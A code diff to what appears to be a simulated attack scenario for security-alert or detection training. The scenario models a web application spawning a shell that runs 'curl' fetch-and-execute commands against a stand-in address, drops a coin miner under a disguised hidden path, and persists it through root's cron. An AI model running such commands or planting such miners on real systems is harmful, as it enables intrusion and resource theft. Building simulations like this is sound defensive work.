@@ -22,12 +22,21 @@ def play(scene: Scene) -> None:
     fetch = desk.start(shell, scene.later(start, 1.2), "curl", "curl -s http://203.0.113.98/x.sh")
     loaded = desk.connect(fetch, scene.later(start, 1.6), "203.0.113.98", 80)
     scene.alert(
-        desk, loaded.time, "Application process piped a download into a shell",
+        desk,
+        loaded.time,
+        "Application process piped a download into a shell",
         "The order application started a shell that ran a script straight from an external address.",
-        app, shell, fetch, loaded, visit,
-        category="Execution", severity="High", techniques=("T1190", "T1059.004"), user=app.account,
-    )  # fmt: skip
-    miner = artifact("/var/tmp/.cache/kworkerd", "miner 6.2", size=3_211_264)
+        app,
+        shell,
+        fetch,
+        loaded,
+        visit,
+        category="Execution",
+        severity="High",
+        techniques=("T1190", "T1059.004"),
+        user=app.account,
+    )
+    miner = artifact("/usr/local/lib/.cache/kworkerd", "miner 6.2", size=3_211_264)
     second = desk.start(shell, scene.later(start, 4), "curl", f"curl -s -o {miner.path} http://203.0.113.98/k")
     desk.connect(second, scene.later(start, 4.4), "203.0.113.98", 80)
     dropped = desk.file(
@@ -45,9 +54,20 @@ def play(scene: Scene) -> None:
     desk.connect(running, scene.later(start, 63), POOL[1], 3333, POOL[0])
     mining = desk.connect(running, scene.later(start, 900), POOL[1], 3333, POOL[0])
     scene.alert(
-        desk, mining.time, "Coin miner started by cron",
+        desk,
+        mining.time,
+        "Coin miner started by cron",
         "A hidden program was put into root's cron table and keeps a connection to a mining pool.",
-        dropped, cron, table, running, mining,
-        category="Malware", severity="Medium", techniques=("T1053.003", "T1496"), family="CoinMiner", threat="Trojan:Linux/CoinMiner.K",
-        user=app.account, triage=Triage("New", investigation="Queued"),
-    )  # fmt: skip
+        dropped,
+        cron,
+        table,
+        running,
+        mining,
+        category="Malware",
+        severity="Medium",
+        techniques=("T1053.003", "T1496"),
+        family="CoinMiner",
+        threat="Trojan:Linux/CoinMiner.K",
+        user=app.account,
+        triage=Triage("New", investigation="Queued"),
+    )
